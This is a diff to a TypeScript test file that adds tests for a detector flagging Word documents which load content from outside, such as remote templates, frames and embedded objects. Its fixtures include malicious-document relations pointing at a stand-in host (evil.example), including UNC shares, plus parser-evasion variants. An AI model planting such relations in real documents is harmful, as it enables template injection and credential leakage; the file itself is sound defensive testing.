@@ -1,5 +1,5 @@
 import { execFile } from "node:child_process";
-import { mkdtemp, open, rm, writeFile } from "node:fs/promises";
+import { mkdtemp, open, rm, writeFile, type FileHandle } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { promisify } from "node:util";
@@ -12,8 +12,10 @@ import {
   macroMain,
   wordMain,
   zipArchive,
+  type ArchivePart,
 } from "../../../tests/support/zip-archive.ts";
 import { hasPromisedContent } from "./check-content.ts";
+import { loadsFromOutside } from "./docx.ts";
 
 const folder = await mkdtemp(path.join(tmpdir(), "content-"));
 afterAll(() => rm(folder, { recursive: true }));
@@ -36,7 +38,7 @@ test.each([
   ["Cyrillic in Windows-1251", ".txt", Buffer.from("d0e5e7fe ece5".replace(" ", "20"), "hex")],
   ["a PDF with an archive behind it, which viewers never see", ".pdf", Buffer.concat([pdf, docx])],
 ])("%s is accepted", async (_name, extension, content) => {
-  expect(await judge(extension, content)).toBe(true);
+  expect(await judge(hasContentOf(extension), content)).toBe(true);
 });
 
 test.each([
@@ -94,7 +96,7 @@ test.each([
   ["half a pair of UTF-16", ".txt", Buffer.from("fffe00d84100", "hex")],
   ["a picture", ".txt", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex")],
 ])("%s is refused", async (_name, extension, content) => {
-  expect(await judge(extension, content)).toBe(false);
+  expect(await judge(hasContentOf(extension), content)).toBe(false);
 });
 
 test("ten gigabytes of zeros in a document of ten megabytes are never unpacked", async () => {
@@ -109,6 +111,64 @@ test("ten gigabytes of zeros in a document of ten megabytes are never unpacked",
   expect(verdicts).toEqual([true, false, false]);
   // A process of Node that does nothing has 50 MB.
   expect(peakBytes).toBeLessThan(150_000_000);
+});
+
+/* What a Word document loads from elsewhere. */
+
+const link = relation("hyperlink", "https://ada.example.org/", "External");
+
+test.each([
+  ["no relations but its own parts", relation("styles", "styles.xml")],
+  ["links to click on", `${link}${link}`],
+  ["the author's own template", relation("attachedTemplate", "file:///C:\\Users\\Ada\\Resume.dotx", "External")],
+  ["a template on a Mac", relation("attachedTemplate", "file:///Users/ada/Resume.dotx", "External")],
+  ["a picture inside", relation("image", "media/ada.jpg")],
+])("%s load nothing", async (_, relations) => {
+  expect(await judge(loadsFromOutside, documentWith(relations))).toBe(false);
+});
+
+test("an ordinary resume loads nothing, and neither does one with a chart", async () => {
+  expect(await judge(loadsFromOutside, resumeBytes("resume.docx"))).toBe(false);
+  const numbers = relation("package", "../embeddings/numbers.xlsx");
+  const chart = zipArchive([...docxParts(), relationsPart(numbers, "word/charts/_rels/chart1.xml.rels")]);
+  expect(await judge(loadsFromOutside, chart)).toBe(false);
+});
+
+test.each([
+  ["a remote template", relation("attachedTemplate", "https://evil.example/t.dotm", "External")],
+  ["a template on a file server", relation("attachedTemplate", "file:////evil.example/share/t.dotm", "External")],
+  ["a template on a share", relation("attachedTemplate", "\\\\evil.example\\share\\t.dotm", "External")],
+  ["a picture of another server", relation("image", "https://evil.example/p.png", "External")],
+  ["a frame of another server", relation("frame", "https://evil.example/", "External")],
+  ["an embedded object", relation("oleObject", "embeddings/oleObject1.bin")],
+  ["an embedded file of Office", relation("package", "embeddings/table.xlsx")],
+  ["an ActiveX control", relation("control", "activeX/activeX1.xml")],
+  ["a document of another format", relation("aFChunk", "chunk.html")],
+  ["two types", relation("hyperlink", "https://evil.example/", "External").replace(" Type", " Type='a/frame' Type")],
+  [
+    "a type within another attribute",
+    `<Relationship Id='a Type="x/hyperlink"' ${attributes("frame", "//evil", "External")}/>`,
+  ],
+  ["a closing sign within an attribute", `<Relationship Id="a>b" ${attributes("frame", "//evil", "External")}/>`],
+  ["single quotes", "<Relationship Type='x/frame' Target='//evil' TargetMode = 'External'/>"],
+  ["a name space", relation("frame", "//evil", "External").replace("<", "<r:")],
+  ["a character reference", relation("frame", "//evil", "&#69;xternal")],
+  ["an entity", `<!DOCTYPE r [<!ENTITY e "External">]>${relation("frame", "//evil", "&e;")}`],
+])("%s is found", async (_, relations) => {
+  expect(await judge(loadsFromOutside, documentWith(relations))).toBe(true);
+});
+
+test("relations in another encoding, or more of them than are read, count too", async () => {
+  const inUtf16 = Buffer.from(`\ufeff<Relationships>${relation("frame", "//evil", "External")}`, "utf16le");
+  const inOtherEncoding = zipArchive([...docxParts(), { name: "word/_rels/settings.xml.RELS", content: inUtf16 }]);
+  expect(await judge(loadsFromOutside, inOtherEncoding)).toBe(true);
+  const many = Array.from({ length: 5 }, (_, index) =>
+    relationsPart(link.repeat(800), `word/_rels/header${index}.xml.rels`),
+  );
+  expect(await judge(loadsFromOutside, zipArchive([...docxParts(), ...many.slice(0, 2)]))).toBe(false);
+  expect(await judge(loadsFromOutside, zipArchive([...docxParts(), ...many]))).toBe(true);
+  const bomb = { name: "word/_rels/document.xml.rels", deflated: deflatedZeros(1).subarray(0, 200_000) };
+  expect(await judge(loadsFromOutside, zipArchive([...docxParts(), bomb]))).toBe(true);
 });
 
 /** Judges DOCX files in a process of their own, whose peak of memory is theirs alone. */
@@ -133,12 +193,16 @@ async function judgeElsewhere(archives: Buffer[]): Promise<{ verdicts: boolean[]
   return { verdicts: JSON.parse(stdout), peakBytes: Number(/^peak (\d+)$/m.exec(stderr)?.[1]) };
 }
 
-async function judge(extension: string, content: Uint8Array): Promise<boolean> {
+function hasContentOf(extension: string) {
+  return (handle: FileHandle) => hasPromisedContent(`resume${extension}`, { handle });
+}
+
+async function judge(check: (handle: FileHandle) => Promise<boolean>, content: Uint8Array): Promise<boolean> {
   const file = path.join(folder, "resume");
   await writeFile(file, content);
   const handle = await open(file);
   try {
-    return await hasPromisedContent(`resume${extension}`, { handle });
+    return await check(handle);
   } finally {
     await handle.close();
   }
@@ -160,4 +224,21 @@ function directoryEntry(name: string): Buffer {
   entry.writeUInt16LE((name.length + 1) * 2, 64);
   entry.writeUInt8(2, 66);
   return entry;
+}
+
+function relation(kind: string, target: string, mode = "Internal"): string {
+  return `<Relationship Id="rId1" ${attributes(kind, target, mode)}/>`;
+}
+
+function attributes(kind: string, target: string, mode: string): string {
+  const type = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}`;
+  return `Type="${type}" Target="${target}" TargetMode="${mode}"`;
+}
+
+function relationsPart(relations: string, name: string): ArchivePart {
+  return { name, content: `<?xml version="1.0" encoding="UTF-8"?><Relationships>${relations}</Relationships>` };
+}
+
+function documentWith(relations: string): Buffer {
+  return zipArchive([...docxParts(), relationsPart(relations, "word/_rels/settings.xml.rels")]);
 }
